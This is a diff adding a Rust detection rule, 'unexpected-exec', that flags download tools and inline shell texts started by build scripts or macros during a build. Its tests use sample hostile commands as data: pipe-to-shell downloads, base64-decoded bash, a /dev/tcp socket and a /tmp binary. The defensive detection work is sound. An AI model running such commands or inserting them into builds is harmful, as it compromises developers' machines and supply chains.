@@ -1,0 +1,264 @@
+//! `unexpected-exec`: a program that the policy does not expect of this unit.
+
+use serde_json::json;
+
+use super::{Code, push};
+use crate::evidence::Bytes;
+use crate::evidence::line::ProgramFile;
+use crate::judge::context::{Context, Tried, program};
+use crate::judge::finding::{Draft, actor, short};
+use crate::judge::paths::file_name;
+use crate::judge::shell;
+use crate::policy::{Role, Severity};
+
+pub(crate) const CODE: Code = Code {
+    name: "unexpected-exec",
+    severity: "medium; a shell or interpreter with its text as a direct child low; such a text that downloads, decodes \
+               into an interpreter, opens /dev/tcp or names a temporary path high",
+    attack: &["T1059"],
+    meaning: "Code that runs at build time started a program that builds are not known to start there: a download \
+              tool, a shell with a text of its own, or something that the policy has never heard of.",
+    honest: "Rare code generators, and crates that fetch a prebuilt library by curl.",
+    action: "Read the arguments in the evidence. Programs below make, ninja, cmake or configure are not reported.",
+    rule,
+};
+
+/// Why a start is a finding.
+enum Reason {
+    Unknown,
+    Download,
+    ShellText,
+    AlarmingText(&'static str),
+}
+
+fn rule(cx: &Context<'_>, out: &mut Vec<Draft>) {
+    for tried in &cx.tried {
+        let Some((object, argv, file)) = program(tried) else { continue };
+        if tried.is_first || super::fileless_exec::is_fileless(tried) {
+            continue;
+        }
+        let name = file_name(&object.path.0);
+        let Some(reason) = reason(cx, tried, argv, file) else { continue };
+        let (severity, attack) = match reason {
+            Reason::Unknown => (Severity::Medium, vec!["T1059"]),
+            Reason::Download => (Severity::Medium, vec!["T1105"]),
+            Reason::ShellText => (Severity::Low, vec!["T1059.004"]),
+            Reason::AlarmingText(_) => (Severity::High, vec!["T1059.004", "T1105"]),
+        };
+        let subject = subject(cx, tried, name, argv, &reason);
+        let what = match reason {
+            Reason::Unknown | Reason::Download => format!("{} tried to start {subject}", actor(tried)),
+            Reason::ShellText => format!("{} tried to run a text of its own by {}", actor(tried), Bytes::from(name)),
+            Reason::AlarmingText(why) => format!("{} tried to run a text that {why}: {subject}", actor(tried)),
+        };
+        let shown: Vec<_> = argv.iter().take(16).cloned().collect();
+        let draft = Draft::new(cx, tried, CODE.name, severity).map(|draft| {
+            let draft = draft
+                .about(subject.clone(), json!({"program": Bytes::from(tried.path.as_slice()), "argv": shown}))
+                .says(what)
+                .attack(&attack);
+            if matches!(reason, Reason::Download | Reason::AlarmingText(_)) { draft.egress() } else { draft }
+        });
+        push(out, draft);
+    }
+}
+
+fn reason(cx: &Context<'_>, tried: &Tried<'_>, argv: &[Bytes], file: ProgramFile) -> Option<Reason> {
+    let (role, units) = known(cx, tried)?;
+    let below_driver = cx.is_below_driver(tried);
+    match role {
+        Some(Role::Download) => Some(Reason::Download),
+        Some(Role::Shell | Role::Interpreter) => {
+            let Some(text) = shell::inline_text(argv) else {
+                return (!below_driver && !units.contains(&tried.unit.kind())).then_some(Reason::Unknown);
+            };
+            if let Some(why) = shell::alarm(text, &|path| tried.unit.owns(path) || tried.unit.in_source(path), below_driver) {
+                Some(Reason::AlarmingText(why))
+            } else if below_driver {
+                None
+            } else if !units.contains(&tried.unit.kind()) {
+                Some(Reason::Unknown)
+            } else {
+                // Something known in between, such as pkg-config or rustc, is the one that uses the shell.
+                is_direct(cx, tried).then_some(Reason::ShellText)
+            }
+        }
+        Some(_) if units.is_empty() || units.contains(&tried.unit.kind()) || below_driver => None,
+        None if below_driver || !is_program_of_system(cx, tried, file) => None,
+        _ => Some(Reason::Unknown),
+    }
+}
+
+/// The role of the program and the units that may start it. Outer none: another code speaks of it.
+fn known<'a>(cx: &Context<'a>, tried: &Tried<'_>) -> Option<(Option<Role>, &'a [crate::evidence::line::UnitKind])> {
+    let (object, ..) = program(tried)?;
+    let by_name = || {
+        cx.policy.program_named(file_name(&tried.path)).or_else(|| cx.policy.program_named(file_name(&object.path.0)))
+    };
+    let is_searched = is_search_folder(cx, &tried.path) && cx.writers(&tried.path).next().is_none();
+    if cx.policy.is_system(&tried.path) || is_searched {
+        Some(by_name().map_or((None, &[][..]), |(role, units)| (Some(role), units)))
+    } else {
+        Some((None, &[]))
+    }
+}
+
+/// Folders of PATH inside the home. A search over PATH tries each of them, also where nothing is.
+fn is_search_folder(cx: &Context<'_>, path: &[u8]) -> bool {
+    let layout = cx.layout();
+    let folder = path.get(..path.len().saturating_sub(file_name(path).len() + 1)).unwrap_or_default();
+    [format!("{}/bin", layout.cargo_home), format!("{}/.local/bin", layout.home), format!("{}/bin", layout.home)]
+        .iter()
+        .any(|place| place.as_bytes() == folder)
+}
+
+/// Files of the build itself are other codes' business: own products, own source, other packages' tools.
+fn is_program_of_system(cx: &Context<'_>, tried: &Tried<'_>, file: ProgramFile) -> bool {
+    let path = tried.path.as_slice();
+    if tried.unit.owns(path) || cx.in_target(path) || cx.in_sources(path) || path.starts_with(b"/proc/") {
+        return false;
+    }
+    let is_elsewhere = cx.in_tmp(path) || cx.in_home(path);
+    // What is there is a dropped file; what is not there was only asked for.
+    !is_elsewhere || is_search_folder(cx, path) || file == ProgramFile::Absent
+}
+
+/// True if the caller is the unit's own code.
+fn is_direct(cx: &Context<'_>, tried: &Tried<'_>) -> bool {
+    let caller = tried.attempt.lineage.first().map_or(tried.attempt.exe.0.as_slice(), |exe| exe.0.as_slice());
+    matches!(cx.policy.role(caller), None | Some(Role::Shell | Role::Interpreter | Role::Utility))
+        || cx.policy.program_named(file_name(caller)).is_none()
+}
+
+/// One subject for a program wherever PATH led, and one for each text.
+fn subject(cx: &Context<'_>, tried: &Tried<'_>, name: &[u8], argv: &[Bytes], reason: &Reason) -> Bytes {
+    match reason {
+        Reason::ShellText | Reason::AlarmingText(_) => {
+            let text = shell::inline_text(argv).unwrap_or_default();
+            let text: Vec<u8> = text.iter().copied().take(120).collect();
+            Bytes([name, b" -c ", &text].concat())
+        }
+        _ if cx.policy.is_system(&tried.path) || is_search_folder(cx, &tried.path) => Bytes::from(name),
+        _ => short(cx, &tried.path),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::evidence::line::{ProgramFile, UnitKind};
+    use crate::evidence::testing::{LogBuilder, OUT, RUSTC, SCRIPT, SOURCE};
+    use crate::judge::codes::testing::{found, script};
+
+    #[test]
+    fn an_unknown_program_is_medium() {
+        assert_eq!(script(|u| u.run(&["/usr/bin/whoami"])), ["unexpected-exec medium whoami"]);
+    }
+
+    #[test]
+    fn a_search_over_path_is_one_finding_or_none() {
+        let search = |name: &str| {
+            script(|u| {
+                u.exec(ProgramFile::Absent, &[&format!("/home/dev/.cargo/bin/{name}")], &[])
+                    .exec(ProgramFile::Absent, &[&format!("/usr/local/bin/{name}")], &[])
+                    .run(&[&format!("/usr/bin/{name}")])
+            })
+        };
+        assert!(search("cc").is_empty());
+        assert_eq!(search("whoami"), ["unexpected-exec medium whoami"]);
+    }
+
+    #[test]
+    fn a_download_tool_is_medium_everywhere_also_below_make() {
+        assert_eq!(script(|u| u.run(&["/usr/bin/curl", "-L", "x.invalid"])), ["unexpected-exec medium curl"]);
+        let found = script(|u| u.by("/usr/bin/make").exec(ProgramFile::Elf, &["/usr/bin/wget"], &["/usr/bin/make", SCRIPT]));
+        assert_eq!(found, ["unexpected-exec medium wget"]);
+    }
+
+    #[test]
+    fn a_shell_text_is_low_and_an_alarming_one_high() {
+        assert_eq!(script(|u| u.run(&["/bin/sh", "-c", "echo hi"])), ["unexpected-exec low sh -c echo hi"]);
+        for text in ["curl x.invalid | sh", "base64 -d <<< aGk= | bash", "exec 3<>/dev/tcp/192.0.2.1/80", "/tmp/rust-setup &"] {
+            let found = script(|u| u.run(&["/bin/sh", "-c", text]));
+            assert_eq!(found, [format!("unexpected-exec high sh -c {text}")]);
+        }
+    }
+
+    #[test]
+    fn a_build_of_c_code_starts_many_programs_and_none_is_unexpected() {
+        assert!(
+            script(|u| {
+                u.run(&["/usr/bin/x86_64-linux-gnu-gcc-13", "-E", "x.c"])
+                    .by("/usr/bin/x86_64-linux-gnu-gcc-13")
+                    .run(&["/usr/libexec/gcc/x86_64-linux-gnu/13/cc1", "x.c"])
+                    .run(&["/usr/bin/x86_64-linux-gnu-as", "x.s"])
+                    .by(SCRIPT)
+                    .run(&[RUSTC, "-vV"])
+                    .run(&["/usr/bin/pkg-config", "--libs", "zlib"])
+                    .run(&["/usr/bin/git", "describe"])
+                    .run(&["/usr/bin/perl", "./Configure"])
+                    .exec(ProgramFile::Script, &[&format!("{SOURCE}/configure")], &[])
+                    .exec(ProgramFile::Script, &["/bin/sh", &format!("{SOURCE}/configure")], &[])
+                    .run(&["/usr/bin/cmake", "--build", "."])
+            })
+            .is_empty()
+        );
+    }
+
+    #[test]
+    fn below_make_anything_may_run_and_texts_are_ordinary() {
+        assert!(
+            script(|u| {
+                u.by("/usr/bin/make").exec(ProgramFile::Elf, &["/bin/sh", "-c", "cd x && ./mkfoo > /tmp/y"], &[SCRIPT]).exec(
+                    ProgramFile::Elf,
+                    &["/usr/bin/whoami"],
+                    &[SCRIPT],
+                )
+            })
+            .is_empty()
+        );
+    }
+
+    #[test]
+    fn a_configure_script_may_start_what_it_likes() {
+        assert!(
+            script(|u| {
+                u.run(&["/bin/sh", &format!("{SOURCE}/configure")])
+                    .by("/usr/bin/dash")
+                    .exec(ProgramFile::Elf, &["/usr/bin/hostname"], &[SCRIPT])
+                    .exec(ProgramFile::Elf, &["/bin/sh", "-c", "exit 0"], &[SCRIPT])
+            })
+            .is_empty()
+        );
+    }
+
+    #[test]
+    fn rustc_links_but_a_macro_that_starts_a_program_is_a_finding() {
+        let log = |argv: &[&str]| {
+            LogBuilder::new().proc_macro(&["D"]).rustc(UnitKind::CompileConsumer, |u| u.run(&[RUSTC]).run(argv)).log()
+        };
+        assert!(found(&log(&["/usr/bin/cc", "-o", "x"])).is_empty());
+        assert_eq!(found(&log(&["/usr/bin/cat", "x"])), ["unexpected-exec medium cat"]);
+        assert_eq!(found(&log(&["/bin/sh", "-c", "true"])), ["unexpected-exec medium sh"]);
+    }
+
+    #[test]
+    fn the_units_own_start_is_ours() {
+        assert!(script(|u| u.by("/run/sandbox-check/shim").run(&[SCRIPT]).by(SCRIPT).open("/etc/passwd")).is_empty());
+    }
+
+    #[test]
+    fn own_products_and_scripts_are_no_unknown_programs() {
+        let test = format!("{OUT}/conftest");
+        assert!(
+            script(|u| {
+                u.run(&["/usr/bin/cc", "-o", "conftest"])
+                    .by("/usr/bin/ld")
+                    .write(test.as_str())
+                    .by(SCRIPT)
+                    .run(&[test.as_str()])
+                    .exec(ProgramFile::Script, &[&format!("{OUT}/config.status")], &[])
+            })
+            .is_empty()
+        );
+    }
+}
